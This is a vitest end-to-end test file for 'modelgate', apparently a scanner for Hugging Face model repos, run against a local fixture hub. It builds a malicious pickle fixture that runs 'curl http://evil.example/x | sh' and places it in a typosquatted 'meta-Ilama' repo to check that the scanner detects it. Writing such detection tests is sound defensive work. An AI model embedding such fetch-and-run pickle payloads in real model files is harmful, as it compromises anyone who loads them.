import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ScanResult } from '../../src/core/report-types.js';
import { buildSafetensors } from '../../src/formats/safetensors/builder.js';
import { buildZip } from '../../src/formats/zip/builder.js';
import { runCliAsync } from '../helpers/cli.js';
import { sha256 } from '../helpers/fixture-hub.js';
import { HubProcess } from '../helpers/hub-process.js';
import { osSystemPickle } from '../helpers/pickles.js';

let hub: HubProcess;
let home: string;

/** The CLI as a child process (async: the fixture hub answers from its own process). */
function run(args: string[], env: Record<string, string> = {}): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return runCliAsync(args, { env: { ...process.env, HF_ENDPOINT: hub.url, HF_HOME: home, HF_TOKEN: '', XDG_CONFIG_HOME: home, ...env } });
}

const weights = buildSafetensors({ tensors: [{ name: 'w', dtype: 'F32', shape: [16, 16] }] });
const evil = buildZip([
  { name: 'archive/data.pkl', data: osSystemPickle('curl http://evil.example/x | sh') },
  { name: 'archive/version', data: Buffer.from('3\n') },
]);

beforeAll(async () => {
  hub = await HubProcess.start();
  home = mkdtempSync(join(tmpdir(), 'mg-hubcli-'));
  await hub.addSimpleRepo('meta-Ilama/Llama-2-7b-chat-hf', [
    { path: 'config.json', content: Buffer.from('{"model_type": "llama"}') },
    { path: 'model.safetensors', content: weights },
    { path: 'pytorch_model.bin', content: evil },
  ]);
  await hub.rename('llama-fan/Llama-2-7b-chat-hf', 'meta-Ilama/Llama-2-7b-chat-hf');
});
afterAll(async () => {
  await hub.close();
});

describe('modelgate scan hf: (end to end, fixture hub on 127.0.0.1)', () => {
  it('finds a malicious pickle, a look-alike name, a redirect and a hash mismatch in one scan', async () => {
    await hub.setFaults({ corrupt: new Set([sha256(weights)]) });
    const r = await run(['scan', 'hf:llama-fan/Llama-2-7b-chat-hf', '--full', '-f', 'json']);
    expect(r.status).toBe(1);
    const report = JSON.parse(r.stdout) as ScanResult;
    expect(report.source).toMatchObject({ repo: 'llama-fan/Llama-2-7b-chat-hf', revision: 'main', redirectedTo: 'meta-Ilama/Llama-2-7b-chat-hf' });
    expect(report.source?.commit).toMatch(/^[0-9a-f]{40}$/);
    const top = report.findings.map((f) => f.ruleId);
    expect(top).toContain('repo/typosquat');
    expect(top).toContain('repo/redirect');
    const file = (path: string) => report.files.find((f) => f.path === path)!;
    expect(file('pytorch_model.bin').findings.some((f) => f.ruleId === 'pickle/dangerous-callable')).toBe(true);
    expect(file('model.safetensors').findings.some((f) => f.ruleId === 'repo/hash-mismatch')).toBe(true);
    await hub.setFaults({});
  });

  it('without --full, LFS hashes come from the Hub and a policy decides', async () => {
    const r = await run(['scan', 'hf:meta-Ilama/Llama-2-7b-chat-hf', '-f', 'json', '--policy', resolve('examples/policy-production.yaml')]);
    expect(r.status).toBe(1);
    const report = JSON.parse(r.stdout) as ScanResult;
    expect(report.files.find((f) => f.path === 'model.safetensors')!.sha256Source).toBe('hub-lfs');
    expect(report.decision?.allow).toBe(false);
    expect(report.decision?.reasons.map((x) => x.rule)).toEqual(expect.arrayContaining(['formats.allow', 'requirePinnedRevision', 'maxSeverity']));
  });

  it('writes an HTML report of a repo scan', async () => {
    const out = join(home, 'report.html');
    const r = await run(['scan', 'hf:meta-Ilama/Llama-2-7b-chat-hf', '-f', 'html', '-o', out]);
    expect(r.status).toBe(1);
    const html = readFileSync(out, 'utf8');
    expect(html).toContain('meta-Ilama/Llama-2-7b-chat-hf');
    expect(html).toContain('repo/typosquat');
  });

  it('usage errors exit 2: several targets with a repo, --full on a folder', async () => {
    expect((await run(['scan', 'hf:a/b', home])).status).toBe(2);
    expect((await run(['scan', '--full', home])).status).toBe(2);
    const gated = await run(['scan', 'hf:nobody/nothing']);
    expect(gated.status).toBe(2);
    expect(gated.stderr).toMatch(/does not exist, or it is private or gated and HF_TOKEN is not set/);
  });
});
